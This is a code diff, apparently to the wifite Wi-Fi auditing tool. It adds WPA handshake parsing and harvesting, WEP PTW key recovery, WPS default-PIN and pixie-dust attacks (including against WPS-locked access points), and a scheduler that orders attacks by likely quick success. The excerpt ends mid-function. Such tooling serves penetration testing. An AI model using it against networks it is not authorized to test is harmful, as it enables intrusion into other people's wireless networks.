@@ -9,16 +9,28 @@ import errno  # Error numbers
 from sys import argv  # Command-line arguments
 from sys import stdout  # Flushing
 
-from shutil import copy  # Copying .cap files
+from shutil import copyfile  # Copying .cap files
 
 # Executing, communicating with, killing processes
-from subprocess import Popen, call, PIPE
-from signal import SIGINT, SIGTERM
+from subprocess import Popen, call, PIPE, TimeoutExpired
+from signal import signal, SIGINT, SIGTERM, SIG_IGN
 
 import re  # RegEx, Converting SSID to filename
+import struct  # Parsing .cap files
+import hashlib  # Fingerprinting handshakes
+import mmap  # Reading .cap files without copying them into memory
 import argparse  # arg parsing
 import urllib.request, urllib.parse, urllib.error  # Check for new versions from the repo
+import glob  # Expanding --check patterns
+import json  # --check reports
+import multiprocessing  # Checking many capture files at once
 import abc  # abstract base class libraries for attack templates
+import heapq  # Ordering guessed WEP keys
+
+try:
+    import numpy  # Optional: counts PTW votes for many IVs at once
+except ImportError:
+    numpy = None
 
 
 ################################
@@ -66,6 +78,8 @@ class CapFile:
         self.filename = filename
         self.ssid = ssid
         self.bssid = bssid
+        self.mtime = 0  # Modification time of the file
+        self.valid = None  # True/False once the file was checked for a handshake, None until then
 
 
 class Target:
@@ -81,6 +95,11 @@ class Target:
         self.encryption = encryption
         self.ssid = ssid
         self.wps = False  # Default to non-WPS-enabled router.
+        self.wps_locked = False  # AP setup locked, as advertised in the WPS information element
+        self.wps_version = ''
+        self.wps_manufacturer = ''
+        self.wps_model = ''  # Model name and number
+        self.wps_device_name = ''
         self.key = ''
 
 
@@ -95,6 +114,36 @@ class Client:
         self.power = power
 
 
+class EapolKey:
+    """
+        Holds one EAPOL-Key message of a WPA four-way handshake, as read from a .cap file.
+    """
+
+    def __init__(self, msg, bssid, client, replay_counter, nonce, mic, offset):
+        self.msg = msg  # Message number in the four-way handshake (1-4)
+        self.bssid = bssid
+        self.client = client
+        self.replay_counter = replay_counter
+        self.nonce = nonce  # ANonce (messages 1 and 3) or SNonce (message 2)
+        self.mic = mic
+        self.offset = offset  # Offset of the frame's record in the .cap file
+
+
+class Handshake:
+    """
+        Holds the four-way handshake messages exchanged between an access point and one client.
+    """
+
+    def __init__(self, bssid, client):
+        self.bssid = bssid
+        self.client = client
+        self.messages = {}  # Latest EapolKey seen for each message number
+        self.pair = []  # EapolKeys which satisfied the handshake policy (empty until then)
+
+    def describe_pair(self):
+        return '+'.join('M%d' % key.msg for key in self.pair)
+
+
 class RunConfiguration:
     """
         Configuration for this rounds of attacks
@@ -105,6 +154,7 @@ class RunConfiguration:
         self.PRINTED_SCANNING = False
 
         self.TX_POWER = 0  # Transmit power for wireless interface, 0 uses default power
+        self.TEMP_RAM_SIZE = 256  # Put the temp folder on tmpfs (/dev/shm) if this many MB are free there, 0 never does
 
         # WPA variables
         self.WPA_DISABLE = False  # Flag to skip WPA handshake capture
@@ -119,6 +169,8 @@ class RunConfiguration:
 
         self.WPA_FINDINGS = []  # List of strings containing info on successful WPA attacks
         self.WPA_DONT_CRACK = False  # Flag to skip cracking of handshakes
+        self.WPA_CRACK_SAVED = False  # Flag to also crack the handshakes already in WPA_HANDSHAKE_DIR
+        self.WPA_HANDSHAKE_CATALOG = None  # HandshakeCatalog of WPA_HANDSHAKE_DIR, see handshake_catalog()
         if os.path.exists('/usr/share/wfuzz/wordlist/fuzzdb/wordlists-user-passwd/passwds/phpbb.txt'):
             self.WPA_DICTIONARY = '/usr/share/wfuzz/wordlist/fuzzdb/wordlists-user-passwd/passwds/phpbb.txt'
         elif os.path.exists('/usr/share/fuzzdb/wordlists-user-passwd/passwds/phpbb.txt'):
@@ -135,6 +187,16 @@ class RunConfiguration:
         self.WPA_HANDSHAKE_PYRIT = False  # Sometimes crashes on incomplete dumps, but accurate.
         self.WPA_HANDSHAKE_AIRCRACK = True  # Not 100% accurate, but fast.
         self.WPA_HANDSHAKE_COWPATTY = False  # Uses more lenient "nonstrict mode" (-2)
+        # EAPOL messages needed before a handshake is accepted. Checked in-process before the programs above.
+        #   'strict' - all four messages, '3of4' - messages 1, 2 and 3,
+        #   'pair'   - any crackable pair (M1+M2 or M2+M3)
+        self.WPA_HANDSHAKE_POLICY = '3of4'
+        self.WPA_FILTERED_CAPTURE = False  # Capture handshakes with dumpcap and a BPF filter (keeps .cap files small)
+        self.WPA_HARVEST_SCAN = True  # Save and crack handshakes the scan's capture already holds
+        self.WPA_HARVESTED = []  # BSSIDs whose handshake came from the scan; their handshake attacks are skipped
+        self.CAPTURE_PERSISTENT = False  # One dumpcap capture from the scan on, retuned with iw for the WPA attacks
+        self.CAPTURE_SERVICE = None  # The CaptureService, while CAPTURE_PERSISTENT captures
+        self.CAPTURE_MAX_SIZE = 20  # Megabytes the persistent capture's file grows to before it is started afresh
 
         # WEP variables
         self.WEP_DISABLE = False  # Flag for ignoring WEP networks
@@ -147,9 +209,16 @@ class RunConfiguration:
         self.WEP_P0841 = True
         self.WEP_HIRTE = True
         self.WEP_CRACK_AT_IVS = 10000  # Number of IVS at which we start cracking
+        self.WEP_CRACK_MIN_IVS = 2500  # Start cracking from this many IVs if WEP_CRACK_AT_IVS is still far off
+        self.WEP_CRACK_WAIT = 60  # "Far off": more seconds than this at the current IV rate
+        self.WEP_STALL_TIMEOUT = 60  # Move on to the next WEP attack after this many seconds without new IVs, 0 never does
         self.WEP_IGNORE_FAKEAUTH = True  # When True, continues attack despite fake authentication failure
+        self.WEP_FAKEAUTH_INTERVAL = 30  # Seconds between re-associations keeping the fake authentication alive, 0 fakes it before every attack
         self.WEP_FINDINGS = []  # List of strings containing info on successful WEP attacks.
         self.WEP_SAVE = False  # Save packets.
+        self.WEP_KEYSTREAM_DIR = 'xor'  # Directory in which recovered keystreams and forged ARP packets are kept
+        self.WEP_IVS_ONLY = False  # Capture only the IVs (airodump-ng's .ivs format) instead of full packets
+        self.WEP_PTW = True  # Also recover the key in-process (PTW) from the capture; needs full packets
 
         # WPS variables
         self.WPS_DISABLE = False  # Flag to skip WPS scan and attacks
@@ -158,8 +227,21 @@ class RunConfiguration:
         self.WPS_TIMEOUT = 660  # Time to wait (in seconds) for successful PIN attempt
         self.WPS_RATIO_THRESHOLD = 0.01  # Lowest percentage of tries/attempts allowed (where tries > 0)
         self.WPS_MAX_RETRIES = 0  # Number of times to re-try the same pin before giving up completely.
+        self.WPS_ATTACK_LOCKED = False  # Also run WPS attacks on access points advertising their setup as locked
+        self.WPS_SESSION_DIR = 'reaver'  # Directory in which reaver sessions and their progress are kept per access point
+        self.WPS_RESUME = True  # Resume WPS PIN attacks where the last session of the access point stopped
+        self.WPS_DEFAULT_PINS = True  # Try vendor default PINs (derived from the BSSID, or static) before the PIN search
+        self.WPS_PIN_TIMEOUT = 30  # Seconds to wait for reaver's answer to each default PIN
+        self.WPS_PIXIE_TIMEOUT = 120  # Seconds to capture the M1-M3 exchange for the pixie-dust attack
+        self.WPS_PIXIE_WAIT = 10  # Seconds to wait on the target for a quick offline pixie-dust result
+        self.WPS_PIXIE_JOBS = 2  # Offline pixiewps computations run at once
+        self.WPS_PIXIE_POOL = None  # PixieDustPool computing pixie-dust PINs offline, see pixie_pool()
 
 
+        # --check variables
+        self.CHECK_JOBS = 0  # Capture files checked at once, 0 uses one process per CPU
+        self.CHECK_REPORT = 'text'  # Report format when checking several files: text, json or csv
+
         # Program variables
         self.SHOW_ALREADY_CRACKED = False  # Says whether to show already cracked APs as options to crack
         self.WIRELESS_IFACE = ''  # User-defined interface
@@ -179,6 +261,7 @@ class RunConfiguration:
         self.CRACKED_TARGETS = []  # List of targets we have already cracked
         self.ATTACK_ALL_TARGETS = False  # Flag for when we want to attack *everyone*
         self.ATTACK_MIN_POWER = 0  # Minimum power (dB) for access point to be considered a target
+        self.ATTACK_IN_ORDER = False  # Attack targets in the order they were selected, not by expected time per success
         self.VERBOSE_APS = True  # Print access points as they appear
         self.CRACKED_TARGETS = self.load_cracked()
         old_cracked = self.load_old_cracked()
@@ -208,7 +291,17 @@ class RunConfiguration:
     def CreateTempFolder(self):
         from tempfile import mkdtemp
 
-        self.temp = mkdtemp(prefix='wifite')
+        # airodump-ng rewrites its output files every second: keep them in RAM when there is room
+        self.temp = None
+        if self.TEMP_RAM_SIZE > 0 and os.path.isdir('/dev/shm'):
+            try:
+                shm = os.statvfs('/dev/shm')
+                if shm.f_bavail * shm.f_frsize >= self.TEMP_RAM_SIZE * 1024 * 1024:
+                    self.temp = mkdtemp(prefix='wifite', dir='/dev/shm')
+            except OSError:
+                pass
+        if self.temp is None:
+            self.temp = mkdtemp(prefix='wifite')
         if not self.temp.endswith(os.sep):
             self.temp += os.sep
 
@@ -222,6 +315,17 @@ class RunConfiguration:
             for target in self.CRACKED_TARGETS:
                 targetwriter.writerow([target.bssid, target.encryption, target.ssid, target.key, target.wps])
 
+    def queue_for_cracking(self, capfile):
+        """
+            Adds a saved handshake to WPA_CAPS_TO_CRACK, unless its access point was cracked
+            already or the file is queued already.
+        """
+        if capfile.bssid in [t.bssid for t in self.CRACKED_TARGETS]:
+            return
+        if capfile.filename in [cap.filename for cap in self.WPA_CAPS_TO_CRACK]:
+            return
+        self.WPA_CAPS_TO_CRACK.append(capfile)
+
     def load_cracked(self):
         """
             Loads info about cracked access points into list, returns list.
@@ -263,6 +367,12 @@ class RunConfiguration:
             We want to remove the temp folder and any files contained within it.
             Removes the temp files/folder and exists with error code "code".
         """
+        # Stop the persistent capture
+        if self.CAPTURE_SERVICE is not None:
+            self.CAPTURE_SERVICE.stop()
+        # Stop offline pixie-dust computations
+        if self.WPS_PIXIE_POOL is not None:
+            self.WPS_PIXIE_POOL.terminate()
         # Remove temp files and folder
         if os.path.exists(self.temp):
             for f in os.listdir(self.temp):
@@ -285,6 +395,8 @@ class RunConfiguration:
         set_hscheck = False
         set_wep = False
         capfile = ''  # Filename of .cap file to analyze for handshakes
+        extract_file = ''  # Filename of .cap file to extract every handshake from
+        check_files = []  # .cap files to check in parallel (directory or pattern given to --check)
 
         opt_parser = self.build_opt_parser()
         options = opt_parser.parse_args()
@@ -379,6 +491,26 @@ class RunConfiguration:
             if options.quiet:
                 self.VERBOSE_APS = False
                 print(GR + ' [+]' + W + ' list of APs during scan ' + O + 'disabled' + W)
+            if options.inorder:
+                self.ATTACK_IN_ORDER = True
+                print(GR + ' [+]' + W + ' targets will be attacked ' + G + 'in the order selected' + W)
+            if options.tmpfs:
+                try:
+                    self.TEMP_RAM_SIZE = int(options.tmpfs)
+                except ValueError:
+                    print_red(R + ' [!]' + O + ' Invalid tmpfs size: %s' % (R + options.tmpfs + W))
+                else:
+                    # Nothing was written to the temp folder yet; create it again with the new setting
+                    os.rmdir(self.temp)
+                    self.CreateTempFolder()
+                    print(GR + ' [+]' + W + ' temp folder set to %s' % (G + self.temp + W))
+            if options.jobs:
+                try:
+                    self.CHECK_JOBS = int(options.jobs)
+                except ValueError:
+                    print_red(R + ' [!]' + O + ' Invalid number of jobs: %s' % (R + options.jobs + W))
+            if options.report:
+                self.CHECK_REPORT = options.report
             if options.check:
                 try:
                     capfile = options.check
@@ -387,10 +519,22 @@ class RunConfiguration:
                     print(R + ' [!]' + O + ' no cap file given!\n' + W)
                     self.exit_gracefully(1)
                 else:
-                    if not os.path.exists(capfile):
+                    check_files = expand_capfiles(capfile)
+                    if len(check_files) == 0:
                         print_red(R + ' [!]' + O + ' Unable to analyze capture file!' + W)
                         print_red(R + ' [!]' + O + ' file not found: ' + R + capfile + '\n' + W)
                         self.exit_gracefully(1)
+                    if check_files == [capfile] and self.CHECK_REPORT == 'text':
+                        check_files = []  # A single file is analyzed as before
+                    else:
+                        # Directory, pattern, or machine-readable report: check every file in parallel
+                        capfile = ''
+            if options.extract:
+                extract_file = options.extract
+                if not os.path.exists(extract_file):
+                    print_red(R + ' [!]' + O + ' Unable to extract handshakes!' + W)
+                    print_red(R + ' [!]' + O + ' file not found: ' + R + extract_file + '\n' + W)
+                    self.exit_gracefully(1)
             if options.cracked:
                 if len(self.CRACKED_TARGETS) == 0:
                     print_red(R + ' [!]' + O + ' There are no cracked access points saved to ' + R + 'cracked.db\n' + W)
@@ -460,6 +604,21 @@ class RunConfiguration:
             if options.cowpatty:
                 self.WPA_HANDSHAKE_COWPATTY = True
                 print_green(GR + ' [+]' + W + ' Cowpatty handshake verification ' + G + 'enabled' + W)
+            if options.hspolicy:
+                self.WPA_HANDSHAKE_POLICY = options.hspolicy
+                print_green(GR + ' [+]' + W + ' Handshake policy set to %s' % (G + self.WPA_HANDSHAKE_POLICY + W))
+            if options.hsfilter:
+                self.WPA_FILTERED_CAPTURE = True
+                print_green(GR + ' [+]' + W + ' Filtered handshake capture ' + G + 'enabled' + W)
+            if options.noharvest:
+                self.WPA_HARVEST_SCAN = False
+                print(GR + ' [+]' + W + ' Handshakes from the scan capture ' + O + 'not harvested' + W)
+            if options.capsvc:
+                self.CAPTURE_PERSISTENT = True
+                print_green(GR + ' [+]' + W + ' Persistent capture (retuned with iw) ' + G + 'enabled' + W)
+            if options.cracksaved:
+                self.WPA_CRACK_SAVED = True
+                print_green(GR + ' [+]' + W + ' Cracking of saved handshakes ' + G + 'enabled' + W)
 
             # WEP
             if not set_wep and options.chopchop or options.fragment or options.caffeelatte or options.arpreplay \
@@ -501,6 +660,22 @@ class RunConfiguration:
                 else:
                     print_green(GR + ' [+]' + W + ' Starting WEP Cracking When IV\'s Surpass %s' % (
                     G + str(self.WEP_CRACK_AT_IVS) + W))
+            if options.wepstall:
+                try:
+                    self.WEP_STALL_TIMEOUT = int(options.wepstall)
+                except ValueError:
+                    print_red(R + ' [!]' + O + ' Invalid Timeout: %s' % (R + options.wepstall + W))
+                else:
+                    print_green(GR + ' [+]' + W + ' WEP Stall Timeout Set To %s' % (
+                    G + str(self.WEP_STALL_TIMEOUT) + " Seconds" + W))
+            if options.wepreauth:
+                try:
+                    self.WEP_FAKEAUTH_INTERVAL = int(options.wepreauth)
+                except ValueError:
+                    print_red(R + ' [!]' + O + ' Invalid Interval: %s' % (R + options.wepreauth + W))
+                else:
+                    print_green(GR + ' [+]' + W + ' WEP Fake Authentication Re-Association Interval Set To %s' % (
+                    G + str(self.WEP_FAKEAUTH_INTERVAL) + " Seconds" + W))
             if options.wept:
                 try:
                     self.WEP_TIMEOUT = int(options.wept)
@@ -524,6 +699,12 @@ class RunConfiguration:
             if options.wepsave:
                 self.WEP_SAVE = True
                 print_green(GR + ' [+]' + W + ' WEP .cap file saving ' + G + 'enabled' + W)
+            if options.wepivs:
+                self.WEP_IVS_ONLY = True
+                print_green(GR + ' [+]' + W + ' WEP IVs-only capture ' + G + 'enabled' + W)
+            if options.noptw:
+                self.WEP_PTW = False
+                print(GR + ' [+]' + W + ' In-process PTW key recovery ' + O + 'disabled' + W)
 
             # WPS
             if options.wpst:
@@ -556,12 +737,25 @@ class RunConfiguration:
                 else:
                     print_green(GR + ' [+]' + W + ' WPS maximum retries set to %s' % (
                     G + str(self.WPS_MAX_RETRIES) + " Retries" + W))
+            if options.wpslocked:
+                self.WPS_ATTACK_LOCKED = True
+                print_green(GR + ' [+]' + W + ' WPS attacks on ' + G + 'locked' + W + ' access points enabled')
+            if options.wpsfresh:
+                self.WPS_RESUME = False
+                print(GR + ' [+]' + W + ' WPS PIN attacks will ' + O + 'not resume' + W + ' saved sessions')
+            if options.nowpspins:
+                self.WPS_DEFAULT_PINS = False
+                print(GR + ' [+]' + W + ' WPS default PINs ' + O + 'disabled' + W)
 
         except IndexError:
             print('\nindexerror\n\n')
 
         if capfile != '':
             self.RUN_ENGINE.analyze_capfile(capfile)
+        if len(check_files) > 0:
+            self.RUN_ENGINE.check_capfiles(check_files)
+        if extract_file != '':
+            self.RUN_ENGINE.extract_handshakes(extract_file)
         print('')
 
     def build_opt_parser(self):
@@ -572,11 +766,18 @@ class RunConfiguration:
 
         # set commands
         command_group = option_parser.add_argument_group('COMMAND')
-        command_group.add_argument('--check', help='Check capfile [file] for handshakes.', action='store', dest='check')
+        command_group.add_argument('--check', help='Check capfile [file] for handshakes (also a directory or glob).',
+                                   action='store', dest='check')
         command_group.add_argument('-check', action='store', dest='check', help=argparse.SUPPRESS)
+        command_group.add_argument('--extract', help='Save every crackable handshake in capfile [file] to the handshake directory.',
+                                   action='store', dest='extract')
         command_group.add_argument('--cracked', help='Display previously cracked access points.', action='store_true',
                                    dest='cracked')
         command_group.add_argument('-cracked', help=argparse.SUPPRESS, action='store_true', dest='cracked')
+        command_group.add_argument('--jobs', help='Number of capture files to --check at once (default: one per CPU).',
+                                   action='store', dest='jobs')
+        command_group.add_argument('--report', help='Report format for --check: text, json or csv.',
+                                   choices=['text', 'json', 'csv'], action='store', dest='report')
         command_group.add_argument('--recrack', help='Include already cracked networks in targets.',
                                    action='store_true', dest='recrack')
         command_group.add_argument('-recrack', help=argparse.SUPPRESS, action='store_true', dest='recrack')
@@ -608,6 +809,10 @@ class RunConfiguration:
         global_group.add_argument('--quiet', help='Do not print list of APs during scan.', action='store_true',
                                   dest='quiet')
         global_group.add_argument('-quiet', help=argparse.SUPPRESS, action='store_true', dest='quiet')
+        global_group.add_argument('--tmpfs', help='Keep temp files in /dev/shm if [MB] are free there (0: never).',
+                                  action='store', dest='tmpfs')
+        global_group.add_argument('--inorder', help='Attack targets in the order selected, not the likeliest first.',
+                                  default=False, action='store_true', dest='inorder')
         # set wpa commands
         wpa_group = option_parser.add_argument_group('WPA')
         wpa_group.add_argument('--wpa', help='Only target WPA networks (works with --wps --wep).', default=False,
@@ -619,7 +824,7 @@ class RunConfiguration:
         wpa_group.add_argument('--wpadt', help='Time to wait between sending deauth packets (seconds).', action='store',
                                dest='wpadt')
         wpa_group.add_argument('-wpadt', help=argparse.SUPPRESS, action='store', dest='wpadt')
-        wpa_group.add_argument('--strip', help='Strip handshake using tshark or pyrit.', default=False,
+        wpa_group.add_argument('--strip', help='Strip handshake (in-process, or tshark/pyrit).', default=False,
                                action='store_true', dest='strip')
         wpa_group.add_argument('-strip', help=argparse.SUPPRESS, default=False, action='store_true', dest='strip')
         wpa_group.add_argument('--crack', help='Crack WPA handshakes using [dic] wordlist file.', action='store_true',
@@ -640,6 +845,16 @@ class RunConfiguration:
         wpa_group.add_argument('--cowpatty', help='Verify handshake using cowpatty.', default=False,
                                action='store_true', dest='cowpatty')
         wpa_group.add_argument('-cowpatty', help=argparse.SUPPRESS, default=False, action='store_true', dest='cowpatty')
+        wpa_group.add_argument('--hspolicy', help='EAPOL messages required for a handshake: strict (4/4), 3of4 or pair.',
+                               choices=['strict', '3of4', 'pair'], action='store', dest='hspolicy')
+        wpa_group.add_argument('--hsfilter', help='Capture only handshake frames (dumpcap with a BPF filter).',
+                               default=False, action='store_true', dest='hsfilter')
+        wpa_group.add_argument('--capsvc', help='Keep one capture running from the scan on, retuned with iw.',
+                               default=False, action='store_true', dest='capsvc')
+        wpa_group.add_argument('--noharvest', help='Do not save handshakes already captured during the scan.',
+                               default=False, action='store_true', dest='noharvest')
+        wpa_group.add_argument('--cracksaved', help='Also crack the handshakes already saved in the handshake directory.',
+                               default=False, action='store_true', dest='cracksaved')
         # set WEP commands
         wep_group = option_parser.add_argument_group('WEP')
         wep_group.add_argument('--wep', help='Only target WEP networks.', default=False, action='store_true',
@@ -679,6 +894,14 @@ class RunConfiguration:
         wep_group.add_argument('--wepsave', help='Save a copy of .cap files to this directory.', default=None,
                                action='store', dest='wepsave')
         wep_group.add_argument('-wepsave', help=argparse.SUPPRESS, default=None, action='store', dest='wepsave')
+        wep_group.add_argument('--wepivs', help='Capture only IVs (.ivs files), not full packets.', default=False,
+                               action='store_true', dest='wepivs')
+        wep_group.add_argument('--wepstall', help='Sec without new IVs before trying the next attack, 0 never.',
+                               action='store', dest='wepstall')
+        wep_group.add_argument('--wepreauth', help='Sec between re-associations keeping fake-auth alive, 0 never.',
+                               action='store', dest='wepreauth')
+        wep_group.add_argument('--noptw', help='Only crack with aircrack-ng, not in-process (PTW).', default=False,
+                               action='store_true', dest='noptw')
         # set WPS commands
         wps_group = option_parser.add_argument_group('WPS')
         wps_group.add_argument('--wps', help='Only target WPS networks.', default=False, action='store_true',
@@ -694,10 +917,211 @@ class RunConfiguration:
         wps_group.add_argument('--wpsretry', help='Max number of retries for same PIN before giving up.',
                                action='store', dest='wpsretry')
         wps_group.add_argument('-wpsretry', help=argparse.SUPPRESS, action='store', dest='wpsretry')
+        wps_group.add_argument('--wpslocked', help='Attack access points advertising a locked WPS setup too.',
+                               default=False, action='store_true', dest='wpslocked')
+        wps_group.add_argument('--wpsfresh', help='Start WPS PIN attacks over instead of resuming saved sessions.',
+                               default=False, action='store_true', dest='wpsfresh')
+        wps_group.add_argument('--nowpspins', help='Do not try vendor default PINs before the PIN search.',
+                               default=False, action='store_true', dest='nowpspins')
 
         return option_parser
 
 
+class TargetScheduler:
+    """
+        Orders the attacks on the selected targets by expected time per success, in a heap,
+        so that the likeliest quick wins go first. Each target gets each of its attacks at most
+        once, within the usual per-attack timeouts; once one recovers the key, the others are
+        dropped (a captured handshake still leaves the WPS attack, which gets the key itself).
+        PINs the offline pixie-dust computations find later are tried as soon as they arrive.
+        After every attack, the remaining jobs are re-ranked with what it taught: its outcome,
+        clients and handshakes seen in the channel's capture, WPS locks and sessions.
+    """
+    ATTACK_ORDER = {'wps': 0, 'wpa': 1, 'wep': 2}  # Order of the attacks on a target with --inorder
+    PIN_PRIORITY = (-1, 0)  # Ahead of any other job, in either order
+    FAILURE_PENALTY = 0.5  # Chance kept by a target's other attacks for each of its attacks which failed
+
+    def __init__(self, config, clients):
+        self.RUN_CONFIG = config
+        self.clients = clients
+        self.heap = []  # (priority, counter, attack, index, Target)
+        self.counter = 0  # Keeps equal priorities in the order they were scheduled
+        self.done = set()  # BSSIDs of targets whose key an attack recovered
+        self.pins = {}  # BSSID: PIN found offline, for the 'pin' attack
+        self.indexes = {}  # BSSID: position of the target in the selection
+        self.failures = {}  # BSSID: number of attacks on the target which failed
+        self.handshakes = set()  # BSSIDs whose handshake a shared capture already holds
+        self.sessions = {}  # BSSID: WPSSession, read once and again after each WPS attack
+
+    def add(self, target, index):
+        """
+            Schedules the attacks that apply to a target (its position in the selection is 'index').
+        """
+        config = self.RUN_CONFIG
+        self.indexes[target.bssid] = index
+        if target.encryption.find('WPA') != -1:
+            if not config.WPS_DISABLE and target.wps and target.wps_locked and not config.WPS_ATTACK_LOCKED:
+                print(GR + ' [+]' + O + ' %s advertises a locked WPS setup, skipping WPS attacks (use %s-wpslocked%s)%s' % (
+                G + target.ssid + O, G, O, W))
+            elif not config.WPS_DISABLE and target.wps:
+                self.push('wps', target)
+            if target.bssid in config.WPA_HARVESTED:
+                print(GR + ' [+]' + W + ' %s: handshake captured during the scan, skipping handshake attack' % (
+                G + target.ssid + W))
+            elif self.attacks_wpa(config, target):
+                self.push('wpa', target)
+        elif target.encryption.find('WEP') != -1:
+            self.push('wep', target)
+        else:
+            print_red(R + ' Unknown encryption:', target.encryption, W)
+
+    @staticmethod
+    def attacks_wpa(config, target):
+        """
+            Returns True if the handshake of 'target' is captured (and cracked) in this run.
+        """
+        return target.encryption.find('WPA') != -1 and not config.PIXIE and not config.WPA_DISABLE
+
+    def priority(self, attack, target):
+        index = self.indexes[target.bssid]
+        if attack == 'pin':
+            return self.PIN_PRIORITY
+        if self.RUN_CONFIG.ATTACK_IN_ORDER:
+            return (index, self.ATTACK_ORDER[attack])
+        (seconds, probability) = self.estimate(attack, target)
+        return (seconds / max(probability, 0.001), index)
+
+    def push(self, attack, target):
+        heapq.heappush(self.heap, (self.priority(attack, target), self.counter, attack,
+                                   self.indexes[target.bssid], target))
+        self.counter += 1
+
+    def rerank(self):
+        """
+            Recomputes the priority of every remaining job.
+        """
+        self.heap = [(self.priority(a, t), c, a, i, t) for (p, c, a, i, t) in self.heap if t.bssid not in self.done]
+        heapq.heapify(self.heap)
+
+    def clients_of(self, target):
+        return [c for c in self.clients if c.station == target.bssid]
+
+    def add_clients(self, clients):
+        """
+            Adds the clients seen since the scan (a client is a Client(client MAC, AP BSSID)).
+        """
+        known = set((c.bssid, c.station) for c in self.clients)
+        for client in clients:
+            if (client.bssid, client.station) not in known:
+                known.add((client.bssid, client.station))
+                self.clients.append(client)
+
+    def session(self, bssid):
+        if bssid not in self.sessions:
+            self.sessions[bssid] = WPSSession(self.RUN_CONFIG.WPS_SESSION_DIR, bssid)
+        return self.sessions[bssid]
+
+    def estimate(self, attack, target):
+        """
+            Returns the expected duration (seconds) of an attack on a target, and its chance of
+            success, from the signal, clients, WPS state and earlier sessions.
+        """
+        config = self.RUN_CONFIG
+        signal = min(1.0, max(target.power, 1) / 60.0)  # Power is dB above -100: from -40 dB on, no penalty
+        has_clients = len(self.clients_of(target)) > 0
+        # A failed attack hints at a weak link or a hardened access point
+        penalty = self.FAILURE_PENALTY ** self.failures.get(target.bssid, 0)
+        if attack == 'wps':
+            # Stages (duration, chance): pixie-dust, default PINs, PIN search until the timeout
+            stages = [(config.WPS_PIXIE_TIMEOUT, 0.5 if wps_pixie_susceptible(target) else 0.05)]
+            if not config.PIXIE:
+                if config.WPS_DEFAULT_PINS:
+                    stages.append((len(wps_default_pins(target)) * config.WPS_PIN_TIMEOUT, 0.1))
+                stages.append((config.WPS_TIMEOUT, 0.1))
+            seconds = 0.0
+            reached = 1.0  # Chance that a stage runs at all
+            for (duration, chance) in stages:
+                seconds += reached * duration
+                reached *= 1 - chance
+            probability = 1 - reached
+            if target.wps_locked:
+                probability *= 0.05
+            # Every run of an earlier session which did not find the PIN makes the next one less likely to
+            probability /= 1 + self.session(target.bssid).runs
+            return (seconds, probability * signal * penalty)
+        if attack == 'wpa':
+            if target.bssid in self.handshakes:
+                return (config.WPA_DEAUTH_TIMEOUT, 0.95)  # Only the validators are left to run
+            # Without clients, a handshake only comes with a client which happens to connect
+            return (config.WPA_ATTACK_TIMEOUT, (0.7 if has_clients else 0.1) * signal * penalty)
+        seconds = config.WEP_TIMEOUT if config.WEP_TIMEOUT > 0 else 3600
+        return (seconds, (0.8 if has_clients else 0.5) * signal * penalty)
+
+    def update(self):
+        """
+            Schedules the PINs found offline since the last call, ahead of the other attacks.
+        """
+        pool = self.RUN_CONFIG.WPS_PIXIE_POOL
+        if pool is None:
+            return
+        for (target, pin) in pool.found():
+            pool.take(target.bssid)
+            if target.bssid in self.done or target.bssid not in self.indexes:
+                continue
+            self.pins[target.bssid] = pin
+            self.push('pin', target)
+
+    def pop(self, channel=None):
+        """
+            Returns the next (attack, Target), or None when no attack is left.
+            While a shared capture runs on 'channel', the WPA attacks of that channel go first.
+        """
+        self.heap = [job for job in self.heap if job[4].bssid not in self.done]
+        heapq.heapify(self.heap)
+        grouped = [job for job in self.heap if job[2] == 'wpa' and job[4].channel == channel]
+        if len(grouped) > 0:
+            job = min(grouped)
+            self.heap.remove(job)
+            heapq.heapify(self.heap)
+            return (job[2], job[4])
+        if len(self.heap) > 0:
+            job = heapq.heappop(self.heap)
+            return (job[2], job[4])
+        return None
+
+    def wpa_bssids(self, channel):
+        """
+            Returns the BSSIDs of the targets on 'channel' with a WPA attack left.
+        """
+        return [t.bssid for (p, c, a, i, t) in self.heap
+                if a == 'wpa' and t.channel == channel and t.bssid not in self.done]
+
+    def finished(self, attack, target, success, capture=None):
+        """
+            Records the outcome of an attack and what the channel's capture saw meanwhile,
+            then re-ranks the remaining jobs.
+        """
+        # A handshake still has to be cracked: only a recovered key makes the other attacks pointless
+        if success and attack != 'wpa':
+            self.done.add(target.bssid)
+        elif not success:
+            self.failures[target.bssid] = self.failures.get(target.bssid, 0) + 1
+        if attack in ('wps', 'pin'):
+            self.sessions.pop(target.bssid, None)  # The attack saved its progress
+        if capture is not None and capture.tracker is not None:
+            self.add_clients(capture.clients())
+            for bssid in capture.bssids:
+                if capture.tracker.handshake_for(bssid) is not None:
+                    self.handshakes.add(bssid)
+        self.rerank()
+
+    def remaining(self, target):
+        """
+            Returns the number of other targets with attacks left.
+        """
+        return len(set(t.bssid for (p, c, a, i, t) in self.heap if t.bssid not in self.done) - {target.bssid})
+
+
 class RunEngine:
     def __init__(self, run_config):
         self.RUN_CONFIG = run_config
@@ -742,6 +1166,18 @@ class RunEngine:
             print(R + ' [!]' + O + ' Please install tshark: https://www.wireshark.org/#download' + W)
             self.RUN_CONFIG.WPS_DISABLE = True
 
+        if self.RUN_CONFIG.WPA_FILTERED_CAPTURE and not program_exists('dumpcap'):
+            printed = True
+            print_red(R + ' [!]' + O + ' The program ' + R + 'dumpcap' + O + ' is required for filtered handshake capture' + W)
+            print(R + ' [!]' + O + ' Falling back to the airodump-ng capture' + W)
+            self.RUN_CONFIG.WPA_FILTERED_CAPTURE = False
+
+        if self.RUN_CONFIG.CAPTURE_PERSISTENT and not program_exists('dumpcap'):
+            printed = True
+            print_red(R + ' [!]' + O + ' The program ' + R + 'dumpcap' + O + ' is required for the persistent capture' + W)
+            print(R + ' [!]' + O + ' Falling back to the airodump-ng capture' + W)
+            self.RUN_CONFIG.CAPTURE_PERSISTENT = False
+
         # Check handshake-checking apps
         recs = ['pyrit', 'cowpatty']
         for rec in recs:
@@ -944,7 +1380,11 @@ class RunEngine:
         proc = Popen(command, stdout=DN, stderr=DN)
 
         time_started = time.time()
-        print(GR.encode('utf-8') + b' [+] ' + G.encode('utf-8') + b'initializing scan' + W.encode('utf-8') + b' (' + G.encode('utf-8') + iface + W.encode('utf-8') + b'), updates at 1 sec intervals, ' + G.encode('utf-8') + b'CTRL+C' + W.encode('utf-8') + b' when ready.')
+        print(GR + ' [+] ' + G + 'initializing scan' + W + ' (' + G + iface + W + '), updates at 1 sec intervals, ' + G + 'CTRL+C' + W + ' when ready.')
+
+        # Clients reconnect all the time: the scan's capture is followed for complete handshakes
+        eapol_reader = PcapReader(cap_file)
